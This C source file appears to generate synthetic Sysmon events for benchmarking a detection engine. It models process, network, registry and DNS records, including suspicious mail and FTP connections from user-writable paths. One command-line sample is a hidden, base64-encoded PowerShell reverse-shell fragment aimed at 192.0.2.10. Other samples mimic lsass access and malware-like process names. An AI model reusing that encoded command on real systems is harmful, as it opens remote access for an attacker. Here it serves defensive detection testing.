/*
 * hecsentry-gen's events (gen.c drives the stream): the values a Sysmon
 * event of each id carries, modelled on the records in tests/data/ (users,
 * images, DLLs, command lines, hosts and domains), and the hits, SMTP or
 * FTP connections from user-writable paths whose by-fields follow from
 * their key number alone.  Every choice comes from gen_rand(), so the
 * events depend only on the options and the seed.  How an event is
 * written out is gen_render.c's.
 */
/* Copyright 2026 The hecsentry developers.  SPDX-License-Identifier: ISC */

#include <err.h>
#include <stdarg.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>

#include "bench/gen.h"

#define GEN_KEYS_PER_HOST 16000		/* distinct source ports per host */

static const char *const gen_users[] = {
	"alice", "bob", "carol", "dave", "erin", "frank", "grace", "heidi",
	"ivan", "judy", "mallory", "niaj", "olivia", "peggy", "rupert",
	"sybil", "trent", "victor", "walter", "yusuf", "zoe", "amir", "bea",
	"chen", "dmitri", "elena", "fatima", "goran", "hana", "ines"
};

/* Non-hit images: (path, 1 if under %USERPROFILE%). */
static const struct {
	const char	*path;
	int		 user;
} gen_images[] = {
	{ "C:\\Windows\\System32\\svchost.exe", 0 },
	{ "C:\\Windows\\explorer.exe", 0 },
	{ "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe", 0 },
	{ "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe",
	    0 },
	{ "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE",
	    0 },
	{ "C:\\Program Files\\Mozilla Firefox\\firefox.exe", 0 },
	{ "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
	    0 },
	{ "C:\\Windows\\System32\\cmd.exe", 0 },
	{ "C:\\Windows\\System32\\conhost.exe", 0 },
	{ "C:\\Windows\\System32\\lsass.exe", 0 },
	{ "C:\\Windows\\System32\\SearchIndexer.exe", 0 },
	{ "C:\\Windows\\System32\\RuntimeBroker.exe", 0 },
	{ "C:\\Windows\\System32\\taskhostw.exe", 0 },
	{ "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe", 0 },
	{ "C:\\Windows\\System32\\msiexec.exe", 0 },
	{ "C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\"
	    "4.18.24090.11-0\\MsMpEng.exe", 0 },
	{ "C:\\Program Files\\Microsoft VS Code\\Code.exe", 0 },
	{ "AppData\\Local\\Microsoft\\Teams\\current\\Teams.exe", 1 },
	{ "AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe", 1 },
	{ "AppData\\Local\\Programs\\slack\\slack.exe", 1 }
};

/*
 * Short benign process creations (image, command line) that explorer.exe
 * starts: the library mix's shortest variant of event 1 when the full one
 * renders too long (as every one does in some shape), so that its process
 * creations stay varied and match no detection (cmd.exe /c ipconfig, the
 * other mixes' shortest variant, made each one a hit of "CMD Carry Out
 * String Command Parameter").
 */
static const char *const gen_short_procs[][2] = {
	{ "C:\\Windows\\System32\\notepad.exe", "notepad.exe todo.txt" },
	{ "C:\\Windows\\System32\\SnippingTool.exe", "SnippingTool.exe" },
	{ "C:\\Windows\\System32\\mspaint.exe", "mspaint.exe" },
	{ "C:\\Windows\\System32\\Taskmgr.exe", "Taskmgr.exe /4" }
};

static const char *const gen_dlls[] = {
	"C:\\Windows\\System32\\ntdll.dll",
	"C:\\Windows\\System32\\kernel32.dll",
	"C:\\Windows\\System32\\KernelBase.dll",
	"C:\\Windows\\System32\\advapi32.dll",
	"C:\\Windows\\System32\\combase.dll",
	"C:\\Windows\\System32\\crypt32.dll",
	"C:\\Windows\\System32\\winhttp.dll",
	"C:\\Windows\\System32\\ws2_32.dll",
	"C:\\Windows\\System32\\amsi.dll",
	"C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\clr.dll",
	"C:\\Windows\\System32\\wbem\\wbemcomn.dll"
};

static const char *const gen_cmdlines[] = {
	"\"C:\\Windows\\System32\\cmd.exe\" /c ipconfig /all",
	"C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule",
	"\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\" "
	    "--type=renderer --display-capture-permissions-policy-allowed "
	    "--lang=en-US --device-scale-factor=1 --num-raster-threads=4 "
	    "--enable-main-frame-before-activation --renderer-client-id=7 "
	    "--time-ticks-at-unix-epoch=-1732781200415231 "
	    "--launch-time-ticks=3921540731 --field-trial-handle=1884,i,"
	    "1042937460275081217,9312004218842212,262144 /prefetch:1",
	"powershell.exe -NoProfile -ExecutionPolicy Bypass -Command "
	    "\"Get-ChildItem -Path C:\\ProgramData\\Corp\\Inventory -Filter "
	    "*.json | ForEach-Object { Invoke-RestMethod -Uri "
	    "https://inventory.corp.example/api/v2/upload -Method Post "
	    "-InFile $_.FullName -UseDefaultCredentials }\"",
	"powershell.exe -nop -w hidden -enc JABjAGwAaQBlAG4AdAAgAD0AIABOAGUA"
	    "dwAtAE8AYgBqAGUAYwB0ACAAUwB5AHMAdABlAG0ALgBOAGUAdAAuAFMAbwBjAGsA"
	    "ZQB0AHMALgBUAEMAUABDAGwAaQBlAG4AdAAoACIAMQA5ADIALgAwAC4AMgAuADEA"
	    "MAAiACwANAA0ADMAKQA7ACQAcwB0AHIAZQBhAG0AIAA9ACAAJABjAGwAaQBlAG4A"
	    "dAAuAEcAZQB0AFMAdAByAGUAYQBtACgAKQA7AFsAYgB5AHQAZQBbAF0AXQAkAGIA"
	    "eQB0AGUAcwAgAD0AIAAwAC4ALgA2ADUANQAzADUAfAAlAHsAMAB9AA==",
	"\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\"",
	"C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding",
	"\"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE\" "
	    "/recycle",
	"C:\\Windows\\System32\\RuntimeBroker.exe -Embedding",
	"\"C:\\Windows\\system32\\msiexec.exe\" /i "
	    "\"C:\\Users\\Public\\Downloads\\AgentInstaller-7.4.2.msi\" /qn "
	    "REBOOT=ReallySuppress /l*v C:\\Windows\\Temp\\agent-install.log"
};

static const char *const gen_web_hosts[] = {
	"login.microsoftonline.com", "outlook.office365.com",
	"settings-win.data.microsoft.com", "www.google.com",
	"clients4.google.com", "update.googleapis.com", "github.com",
	"edge.microsoft.com", "slack.com", "teams.microsoft.com",
	"ctldl.windowsupdate.com", "-"
};

static const char *const gen_words[] = {
	"genious", "yandex", "zoho", "privateemail", "mailhost", "webmail",
	"smtp-relay", "transfer", "files", "cloudsync", "backup", "updates"
};

static const char *const gen_tlds[] = {
	"net", "com", "org", "info", "xyz", "biz"
};

static const char *const gen_hit_dirs[] = {
	"AppData\\Roaming", "AppData\\Local\\Temp", "AppData\\Local",
	"Downloads", "AppData\\Roaming\\Microsoft"
};

static const char *const gen_hit_names[] = {
	"upd", "svchosts", "chrome_update", "invoice", "WinSvc", "tmp4A2B",
	"agent_tesla-deob", "snake", "RegAsm", "mailer"
};

/* A hash of v alone, for values that must not depend on the stream. */
static uint64_t
gen_hash(uint64_t v)
{
	v += 0x9e3779b97f4a7c15ULL;
	v = (v ^ (v >> 30)) * 0xbf58476d1ce4e5b9ULL;
	v = (v ^ (v >> 27)) * 0x94d049bb133111ebULL;
	return v ^ (v >> 31);
}

/* Adds an EventData field; the value is formatted into the event. */
void
ev_add(struct gen_event *ev, const char *k, const char *fmt, ...)
{
	va_list	 ap;
	size_t	 room;
	int	 n;

	if (ev->nkv == GEN_MAX_KV)
		errx(1, "too many fields in event %d", ev->id);
	room = sizeof(ev->store) - ev->used;
	va_start(ap, fmt);
	n = vsnprintf(ev->store + ev->used, room, fmt, ap);
	va_end(ap);
	if (n < 0 || (size_t)n >= room)
		errx(1, "event %d: values too long", ev->id);
	ev->k[ev->nkv] = k;
	ev->v[ev->nkv] = ev->store + ev->used;
	ev->nkv++;
	ev->used += (size_t)n + 1;
}

/* Formats epoch ms as "2026-11-28 08:00:00.123" or ISO 8601 with Z. */
void
gen_time(int64_t ms, int iso, char *out, size_t outsz)
{
	struct tm	 tm;
	time_t		 t = (time_t)(ms / 1000);
	char		 s[32];

	gmtime_r(&t, &tm);
	strftime(s, sizeof(s), iso ? "%Y-%m-%dT%H:%M:%S" : "%Y-%m-%d %H:%M:%S",
	    &tm);
	snprintf(out, outsz, "%s.%03d%s", s, (int)(ms % 1000), iso ? "Z" : "");
}

void
gen_guid(char *out, size_t outsz)
{
	uint64_t	 a = gen_rand(), c = gen_rand();

	snprintf(out, outsz, "{%08X-%04X-%04X-%04X-%012llX}",
	    (unsigned)(a >> 32), (unsigned)(a >> 16) & 0xffff,
	    (unsigned)a & 0xffff, (unsigned)(c >> 48),
	    (unsigned long long)(c & 0xffffffffffffULL));
}

static void
gen_hex(char *out, size_t nhex)
{
	static const char	 digits[] = "0123456789ABCDEF";
	size_t			 i;
	uint64_t		 r = 0;

	for (i = 0; i < nhex; i++) {
		if (i % 16 == 0)
			r = gen_rand();
		out[i] = digits[r & 15];
		r >>= 4;
	}
	out[nhex] = '\0';
}

void
gen_hashes(struct gen_event *ev)
{
	char	 sha[65], imp[33];

	gen_hex(sha, 64);
	gen_hex(imp, 32);
	if (gen_short)
		ev_add(ev, "Hashes", "SHA256=%s", sha);
	else
		ev_add(ev, "Hashes", "SHA256=%s,IMPHASH=%s", sha, imp);
}

/* A non-hit image, with %USERPROFILE% expanded for user. */
void
gen_image(const char *user, char *out, size_t outsz)
{
	unsigned	 i = gen_below(GEN_NITEMS(gen_images));

	if (gen_images[i].user)
		snprintf(out, outsz, "C:\\Users\\%s\\%s", user,
		    gen_images[i].path);
	else
		snprintf(out, outsz, "%s", gen_images[i].path);
}

void
gen_public_ip(char *out, size_t outsz)
{
	static const char *const pfx[] = {
		"13.107", "20.190", "52.96", "142.250", "151.101", "104.16",
		"40.126", "185.199"
	};

	snprintf(out, outsz, "%s.%u.%u", GEN_PICK(pfx), gen_below(256),
	    1 + gen_below(254));
}

/* The fields every event starts with. */
void
gen_common(struct gen_event *ev, const char *image, const char *user,
    char *pguid, size_t pguidsz, unsigned *pid)
{
	char	 t[40];

	gen_time(ev->ms - 150 - gen_below(400), 0, t, sizeof(t));
	gen_guid(pguid, pguidsz);
	*pid = 200 + 4 * gen_below(4000);
	ev_add(ev, "RuleName", "%s", ev->id == 3 && gen_below(4) == 0 ?
	    "technique_id=T1071,technique_name=Application Layer Protocol" :
	    "-");
	ev_add(ev, "UtcTime", "%s", t);
	ev_add(ev, "ProcessGuid", "%s", pguid);
	ev_add(ev, "ProcessId", "%u", *pid);
	if (image != NULL)
		ev_add(ev, "Image", "%s", image);
	(void)user;
}

static void
gen_net(struct gen_event *ev, const char *user, const char *domuser,
    unsigned long nkeys, unsigned long hitno)
{
	char		 image[256], pguid[48], dip[48], dhost[128];
	const char	*proto = "tcp", *pname = "-", *shost, *name;
	unsigned	 pid, dport, sport, k, near;
	uint64_t	 h;
	int		 inbound = 0;

	near = gen_below(100);
	if (ev->hit) {
		/* One of nkeys keys: every by-field follows from k. */
		k = (unsigned)(hitno % nkeys);
		h = gen_hash(k);
		ev->hostno = gen_hit_hosts > 1 ? k % gen_hit_hosts :
		    k / GEN_KEYS_PER_HOST;
		snprintf(ev->computer, sizeof(ev->computer),
		    "ws-%04u.corp.example", ev->hostno);
		user = gen_users[h % GEN_NITEMS(gen_users)];
		name = gen_hit_names[(h >> 16) % GEN_NITEMS(gen_hit_names)];
		if (h >> 40 & 1)
			snprintf(image, sizeof(image),
			    "C:\\Users\\%s\\%s\\%s.exe", user,
			    gen_hit_dirs[(h >> 8) % GEN_NITEMS(gen_hit_dirs)],
			    name);
		else
			snprintf(image, sizeof(image), "C:\\Temp\\%s.exe",
			    name);
		snprintf(dhost, sizeof(dhost), "%s.%s%u.%s",
		    ev->hit == 1 ? "mail" : "ftp",
		    gen_words[(h >> 24) % GEN_NITEMS(gen_words)],
		    (unsigned)(h >> 32) % 100,
		    gen_tlds[(h >> 44) % GEN_NITEMS(gen_tlds)]);
		snprintf(dip, sizeof(dip), "41.77.%u.%u",
		    (unsigned)(h >> 48) & 0xff, 1 + (unsigned)(h >> 56) % 254);
		sport = 49152 + k / gen_hit_hosts % GEN_KEYS_PER_HOST;
		if (ev->hit == 2) {
			dport = 21;
			pname = "ftp";
		} else if ((h >> 41 & 1) != 0) {
			dport = 587;
			pname = "-";
		} else {
			dport = 25;
			pname = "smtp";
		}
		shost = ev->computer;
	} else if (near < 2) {
		/* Mail clients where they belong: not a hit. */
		snprintf(image, sizeof(image), "%s", near == 0 ?
		    "C:\\Program Files\\Microsoft Office\\root\\Office16\\"
		    "OUTLOOK.EXE" :
		    "C:\\Program Files\\Mozilla Thunderbird\\thunderbird.exe");
		dport = 587;
		snprintf(dhost, sizeof(dhost), "smtp.office365.com");
		gen_public_ip(dip, sizeof(dip));
		sport = 49152 + gen_below(16384);
		shost = ev->computer;
	} else if (near == 2 && !gen_library) {
		/* The system's own ftp.exe: not a hit either (but one of
		   "LOLBAS With Network Traffic" in the library mix). */
		snprintf(image, sizeof(image),
		    "C:\\Windows\\System32\\ftp.exe");
		dport = 21;
		pname = "ftp";
		snprintf(dhost, sizeof(dhost), "ftp.corp.example");
		snprintf(dip, sizeof(dip), "10.1.%u.%u", gen_below(256),
		    1 + gen_below(254));
		sport = 49152 + gen_below(16384);
		shost = ev->computer;
	} else {
		static const struct {
			unsigned	 port;
			const char	*name;
			const char	*proto;
		} svc[] = {
			{ 443, "https", "tcp" }, { 443, "https", "tcp" },
			{ 443, "https", "tcp" }, { 443, "https", "tcp" },
			{ 80, "http", "tcp" }, { 53, "domain", "udp" },
			{ 135, "epmap", "tcp" },
			{ 445, "microsoft-ds", "tcp" },
			{ 389, "ldap", "tcp" }, { 88, "kerberos", "tcp" },
			{ 3389, "ms-wbt-server", "tcp" }, { 5985, "-", "tcp" },
			{ 8080, "-", "tcp" }, { 123, "ntp", "udp" }
		};
		unsigned	 s = gen_below(GEN_NITEMS(svc));

		gen_image(user, image, sizeof(image));
		dport = svc[s].port;
		pname = svc[s].name;
		proto = svc[s].proto;
		if (gen_library)
			gen_lib_net_image(image, sizeof(image), dport);
		if (dport == 443 || dport == 80 || dport == 8080) {
			snprintf(dhost, sizeof(dhost), "%s",
			    GEN_PICK(gen_web_hosts));
			gen_public_ip(dip, sizeof(dip));
		} else {
			snprintf(dhost, sizeof(dhost), "dc%02u.corp.example",
			    1 + gen_below(4));
			snprintf(dip, sizeof(dip), "10.0.0.%u",
			    10 + gen_below(4));
		}
		sport = 49152 + gen_below(16384);
		inbound = dport == 135 || dport == 445 || dport == 3389 ||
		    dport == 5985 ? gen_below(2) : 0;
		shost = gen_below(3) == 0 ? "-" : ev->computer;
	}

	gen_common(ev, image, user, pguid, sizeof(pguid), &pid);
	if (ev->hit)
		ev_add(ev, "User", "CORP\\%s", user);
	else
		ev_add(ev, "User", "%s", domuser);
	ev_add(ev, "Protocol", "%s", proto);
	ev_add(ev, "Initiated", "%s", inbound ? "false" : "true");
	ev_add(ev, "SourceIsIpv6", "false");
	ev_add(ev, "SourceIp", "10.20.%u.%u", ev->hostno / 250,
	    1 + ev->hostno % 250);
	ev_add(ev, "SourceHostname", "%s", shost);
	ev_add(ev, "SourcePort", "%u", sport);
	ev_add(ev, "SourcePortName", "-");
	ev_add(ev, "DestinationIsIpv6", "false");
	ev_add(ev, "DestinationIp", "%s", dip);
	ev_add(ev, "DestinationHostname", "%s", dhost);
	ev_add(ev, "DestinationPort", "%u", dport);
	ev_add(ev, "DestinationPortName", "%s", pname);
}

static void
gen_proc_create(struct gen_event *ev, const char *domuser, const char *user,
    int shorter)
{
	char		 image[256], pguid[48], ppguid[48], lguid[48];
	const char	*cmd;
	unsigned	 pid, k = 0;

	gen_image(user, image, sizeof(image));
	if (shorter >= 2 && gen_library) {
		k = gen_below(GEN_NITEMS(gen_short_procs));
		snprintf(image, sizeof(image), "%s", gen_short_procs[k][0]);
	} else if (shorter >= 2)
		snprintf(image, sizeof(image), "%s",
		    "C:\\Windows\\System32\\cmd.exe");
	gen_common(ev, image, user, pguid, sizeof(pguid), &pid);
	ev_add(ev, "FileVersion", "10.0.19041.%u (WinBuild.160101.0800)",
	    1000 + gen_below(4000));
	ev_add(ev, "Description", "%s", "Windows Command Processor");
	ev_add(ev, "Product", "Microsoft\xc2\xae Windows\xc2\xae Operating "
	    "System");
	ev_add(ev, "Company", "Microsoft Corporation");
	ev_add(ev, "OriginalFileName", "%s", strrchr(image, '\\') + 1);
	if (shorter >= 2 && gen_library)
		cmd = gen_short_procs[k][1];
	else
		cmd = shorter ? gen_cmdlines[1] : GEN_PICK(gen_cmdlines);
	ev_add(ev, "CommandLine", "%s", cmd);
	ev_add(ev, "CurrentDirectory", "C:\\Users\\%s\\", user);
	ev_add(ev, "User", "%s", domuser);
	gen_guid(lguid, sizeof(lguid));
	ev_add(ev, "LogonGuid", "%s", lguid);
	ev_add(ev, "LogonId", "0x%X", 0x10000 + gen_below(0xfffff));
	ev_add(ev, "TerminalSessionId", "%u", gen_below(3));
	ev_add(ev, "IntegrityLevel", "%s", gen_below(4) ? "Medium" : "High");
	gen_hashes(ev);
	gen_guid(ppguid, sizeof(ppguid));
	ev_add(ev, "ParentProcessGuid", "%s", ppguid);
	ev_add(ev, "ParentProcessId", "%u", 200 + 4 * gen_below(4000));
	ev_add(ev, "ParentImage", "C:\\Windows\\explorer.exe");
	ev_add(ev, "ParentCommandLine", "C:\\Windows\\Explorer.EXE");
	if (shorter < 2)	/* Sysmon before 13.30 has no ParentUser */
		ev_add(ev, "ParentUser", "%s", domuser);
}

static void
gen_image_load(struct gen_event *ev, const char *domuser, const char *user)
{
	char		 image[256], pguid[48];
	const char	*dll;
	unsigned	 pid;

	gen_image(user, image, sizeof(image));
	if (gen_library)
		snprintf(image, sizeof(image), "%s", gen_lib_system_image());
	gen_common(ev, image, user, pguid, sizeof(pguid), &pid);
	dll = GEN_PICK(gen_dlls);
	ev_add(ev, "ImageLoaded", "%s", dll);
	ev_add(ev, "FileVersion", "10.0.19041.%u (WinBuild.160101.0800)",
	    1000 + gen_below(4000));
	ev_add(ev, "Description", "%s", "Windows NT BASE API Client DLL");
	ev_add(ev, "Product", "Microsoft\xc2\xae Windows\xc2\xae Operating "
	    "System");
	ev_add(ev, "Company", "Microsoft Corporation");
	ev_add(ev, "OriginalFileName", "%s", strrchr(dll, '\\') + 1);
	gen_hashes(ev);
	ev_add(ev, "Signed", "true");
	ev_add(ev, "Signature", "Microsoft Windows");
	ev_add(ev, "SignatureStatus", "Valid");
	ev_add(ev, "User", "%s", domuser);
}

static void
gen_proc_access(struct gen_event *ev, const char *domuser, const char *user)
{
	static const char *const access[] = {
		"0x1000", "0x1410", "0x1FFFFF", "0x101000", "0x40"
	};
	char		 image[256], sguid[48], tguid[48], t[40];
	struct gen_buf	 trace = { NULL, 0, 0 };
	unsigned	 i, n;

	gen_image(user, image, sizeof(image));
	gen_time(ev->ms - 150 - gen_below(400), 0, t, sizeof(t));
	gen_guid(sguid, sizeof(sguid));
	gen_guid(tguid, sizeof(tguid));
	ev_add(ev, "RuleName", "-");
	ev_add(ev, "UtcTime", "%s", t);
	ev_add(ev, "SourceProcessGUID", "%s", sguid);
	ev_add(ev, "SourceProcessId", "%u", 200 + 4 * gen_below(4000));
	ev_add(ev, "SourceThreadId", "%u", 200 + 4 * gen_below(4000));
	ev_add(ev, "SourceImage", "%s", image);
	ev_add(ev, "TargetProcessGUID", "%s", tguid);
	ev_add(ev, "TargetProcessId", "%u", 200 + 4 * gen_below(4000));
	ev_add(ev, "TargetImage", "%s", gen_library ?
	    gen_lib_access_target() : "C:\\Windows\\system32\\lsass.exe");
	ev_add(ev, "GrantedAccess", "%s", gen_library ?
	    gen_lib_access_rights() : GEN_PICK(access));
	n = gen_short ? 2 : 3 + gen_below(3);
	for (i = 0; i < n; i++)
		buf_addf(&trace, "%s%s+%x", i ? "|" : "",
		    i == 0 ? "C:\\Windows\\SYSTEM32\\ntdll.dll" :
		    GEN_PICK(gen_dlls), 0x1000 + gen_below(0xfffff));
	buf_add(&trace, "", 1);
	ev_add(ev, "CallTrace", "%s", trace.p);
	free(trace.p);
	ev_add(ev, "SourceUser", "%s", domuser);
	ev_add(ev, "TargetUser", "NT AUTHORITY\\SYSTEM");
}

static void
gen_file_create(struct gen_event *ev, const char *domuser, const char *user)
{
	static const struct {
		const char	*pre;
		const char	*suf;
	} files[] = {
		{ "AppData\\Local\\Temp\\__PSScriptPolicyTest_", ".psm1" },
		{ "AppData\\Local\\Microsoft\\Windows\\INetCache\\IE\\",
		    ".tmp" },
		{ "Downloads\\report-", ".xlsx" },
		{ "AppData\\Roaming\\Microsoft\\Windows\\Recent\\", ".lnk" }
	};
	unsigned	 f;
	char		 image[256], pguid[48], name[160], t[40];
	unsigned	 pid;

	gen_image(user, image, sizeof(image));
	gen_common(ev, image, user, pguid, sizeof(pguid), &pid);
	f = gen_below(GEN_NITEMS(files));
	snprintf(name, sizeof(name), "%s%08x%s", files[f].pre,
	    (unsigned)gen_rand(), files[f].suf);
	ev_add(ev, "TargetFilename", "C:\\Users\\%s\\%s", user, name);
	gen_time(ev->ms - 2000 - gen_below(100000), 0, t, sizeof(t));
	ev_add(ev, "CreationUtcTime", "%s", t);
	ev_add(ev, "User", "%s", domuser);
}

static void
gen_registry(struct gen_event *ev, const char *domuser, const char *user)
{
	static const struct {
		const char	*pre;
		const char	*suf;
	} keys[] = {
		{ "HKLM\\System\\CurrentControlSet\\Services\\bam\\State\\"
		    "UserSettings\\S-1-5-21-3623811015-3361044348-30300820-",
		    "\\\\Device\\HarddiskVolume3\\Windows\\System32\\"
		    "notepad.exe" },
		{ "HKU\\S-1-5-21-3623811015-3361044348-30300820-",
		    "\\Software\\Microsoft\\Windows\\CurrentVersion\\"
		    "Explorer\\RecentDocs\\.docx" },
		{ "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\"
		    "Schedule\\TaskCache\\Tree\\Microsoft\\Windows\\"
		    "UpdateOrchestrator\\Schedule Scan ", "" }
	};
	unsigned	 r;
	int		 del;
	char		 image[256], pguid[48], key[320];
	unsigned	 pid;

	gen_image(user, image, sizeof(image));
	del = ev->id != 13 && gen_below(3) == 0;
	ev_add(ev, "EventType", "%s", ev->id == 13 ? "SetValue" :
	    (del ? "DeleteKey" : "CreateKey"));
	gen_common(ev, image, user, pguid, sizeof(pguid), &pid);
	r = gen_below(GEN_NITEMS(keys));
	/* A deleted service key is "Windows Service Deletion In Registry". */
	if (gen_library && r == 0 && del)
		r = 1;
	snprintf(key, sizeof(key), "%s%u%s", keys[r].pre,
	    1000 + gen_below(500), keys[r].suf);
	ev_add(ev, "TargetObject", "%s", key);
	if (ev->id == 13)
		ev_add(ev, "Details", "QWORD (0x%08x-0x%08x)",
		    (unsigned)gen_rand(), (unsigned)gen_rand());
	ev_add(ev, "User", "%s", domuser);
}

static void
gen_dns(struct gen_event *ev, const char *domuser, const char *user)
{
	char		 image[256], pguid[48], ip1[48], ip2[48];
	const char	*q;
	unsigned	 pid;

	gen_image(user, image, sizeof(image));
	gen_common(ev, NULL, user, pguid, sizeof(pguid), &pid);
	do {
		q = GEN_PICK(gen_web_hosts);
	} while (strcmp(q, "-") == 0);
	ev_add(ev, "QueryName", "%s", q);
	ev_add(ev, "QueryStatus", "0");
	gen_public_ip(ip1, sizeof(ip1));
	gen_public_ip(ip2, sizeof(ip2));
	ev_add(ev, "QueryResults", "type:  5 %s.edgekey.net;type:  5 "
	    "e%u.dscb.akamaiedge.net;::ffff:%s;::ffff:%s;", q,
	    gen_below(30000), ip1, ip2);
	ev_add(ev, "Image", "%s", image);
	ev_add(ev, "User", "%s", domuser);
}

/*
 * Fills ev with event number i of the stream.  hitno counts hits so far;
 * shorter asks for the shortest variants (after a too-long rendering).
 */
void
gen_event_fill(struct gen_event *ev, int id, int hit, unsigned long nkeys,
    unsigned long hitno, int shorter)
{
	char		 domuser[96], image[256], pguid[48];
	const char	*user;
	unsigned	 host, pid;

	ev->id = id;
	ev->hit = hit;
	ev->nkv = 0;
	ev->used = 0;
	host = gen_below(GEN_NHOSTS);
	ev->hostno = host;
	snprintf(ev->computer, sizeof(ev->computer), "ws-%04u.corp.example",
	    host);
	user = gen_users[host % GEN_NITEMS(gen_users)];
	if (gen_below(5) == 0)
		snprintf(domuser, sizeof(domuser), "NT AUTHORITY\\SYSTEM");
	else
		snprintf(domuser, sizeof(domuser), "CORP\\%s", user);
	switch (id) {
	case 1:
		gen_proc_create(ev, domuser, user, shorter);
		break;
	case 3:
		gen_net(ev, user, domuser, nkeys, hitno);
		break;
	case 5:
		gen_image(user, image, sizeof(image));
		gen_common(ev, image, user, pguid, sizeof(pguid), &pid);
		ev_add(ev, "User", "%s", domuser);
		break;
	case 7:
		gen_image_load(ev, domuser, user);
		break;
	case 10:
		gen_proc_access(ev, domuser, user);
		break;
	case 11:
		gen_file_create(ev, domuser, user);
		break;
	case 12:
	case 13:
		gen_registry(ev, domuser, user);
		break;
	case 22:
		gen_dns(ev, domuser, user);
		break;
	case 8:
	case 17:
	case 18:
		gen_lib_fill(ev, domuser, user);
		break;
	}
	snprintf(ev->host, sizeof(ev->host), "%.*s",
	    (int)strcspn(ev->computer, "."), ev->computer);
}
